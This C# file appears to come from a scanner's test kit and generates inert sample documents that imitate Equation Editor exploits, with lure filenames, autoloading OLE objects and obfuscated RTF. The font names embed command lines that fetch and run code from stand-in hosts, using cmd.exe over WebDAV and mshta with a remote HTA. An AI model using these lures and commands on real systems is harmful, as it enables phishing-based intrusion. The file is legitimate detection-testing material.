using System.Text;
using static ScanHost.TestKit.HeldOut.Eighth.EighthOffice;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Documents with an equation whose font name is too long for the editor. What stands in the name leads nowhere.</summary>
public sealed class EquationObjects : EighthRound
{
    private const string ClassId = "0002CE02-0000-0000-C000-000000000046";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var plain = Native("cmd.exe /c start \\\\192.0.2.15\\dav\\eqn.exe & AAAAAAAAAAAA");
        yield return ("SWIFT copy.doc", Rtf("\\rtf1\\adeflang1025\\ansi", "Equation.3", Compound(plain), "\\objautlink\\objupdate", spaced: false));
        yield return ("Shipment_advice.xlsx", Excel([("Advice", "visible", Row(1, "Shipment advice", "B/L 99120"))], parts:
        [
            ("xl/worksheets/_rels/sheet1.xml.rels", EighthForms.Utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"../embeddings/kQ0x.bin\"/></Relationships>")),
            ("xl/embeddings/kQ0x.bin", Compound(Native("mshta http://vessel-docs.example/a.hta" + new string('A', 40)))),
        ], sheetTail: "<oleObjects><oleObject progId=\"Equation.3\" shapeId=\"1026\" r:id=\"rId1\" autoLoad=\"true\"/></oleObjects>"));
        yield return ("Specification list.doc", Rtf("\\rt3333{\\*\\7fnwe 1}", "eQUatiOn.3", Compound(Native(Encoding.Latin1.GetString(EighthForms.Noise(72, 5)) + "URLDownloadToFileW ShellExecuteW ExpandEnvironmentStringsW"), "\u0001oLE10nAtIVE"), "\\objupdate\\objocx", spaced: true));
        var both = Encoding.Latin1.GetString(Rtf("\\rtf1\\ansi", "Equation.3", Compound(Native(new string('\u0090', 30) + "%TEMP%\\8.t")), "\\objupdate", spaced: true));
        var package = Convert.ToHexString(RtfBuilder.Embedded("Package", OlePackageBuilder.Package("8.t", EighthForms.Turned(InertFiles.Pe(2048), 0xFC))[4..]));
        yield return ("Conference programme.rtf", Encoding.Latin1.GetBytes(both[..^1] + "{\\object\\objemb\\objw1\\objh1{\\*\\objclass Package}{\\*\\objdata " + package + "}}}"));
    }

    // Header of the stream, header of MTEF 3, a font record, and a name that does not end in time.
    private static byte[] Native(string name)
    {
        byte[] equation = [3, 1, 1, 3, 0x0A, 0x0A, 1, 8, 0x5A, 0x5A, .. Encoding.Latin1.GetBytes(name), 0x12, 0x0C, 0x43, 0, 0];
        return [0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4, .. BitConverter.GetBytes(equation.Length), .. new byte[16], .. equation];
    }

    private static byte[] Compound(byte[] native, string stream = "Equation Native") =>
        new OleFileBuilder().Class("", ClassId).Stream("\u0001CompObj", CompObj("Microsoft Equation 3.0", "Equation.3")).Stream(stream, stream[0] == 1 ? [.. BitConverter.GetBytes(native.Length), .. native] : native).Build();

    private static byte[] Rtf(string head, string className, byte[] ole, string words, bool spaced)
    {
        var hex = Convert.ToHexString(RtfBuilder.Embedded(className, ole)).ToLowerInvariant();
        if (spaced)
            hex = string.Join("\r\n ", EighthForms.Pieces(hex, 7));
        return Encoding.Latin1.GetBytes($"{{{head}{{\\fonttbl{{\\f0 Times New Roman;}}}}\\pard Please see the enclosed.\\par{{\\object\\objemb{words}\\objw380\\objh260{{\\*\\objclass {className}}}{{\\*\\objdata {hex}}}}}}}");
    }
}
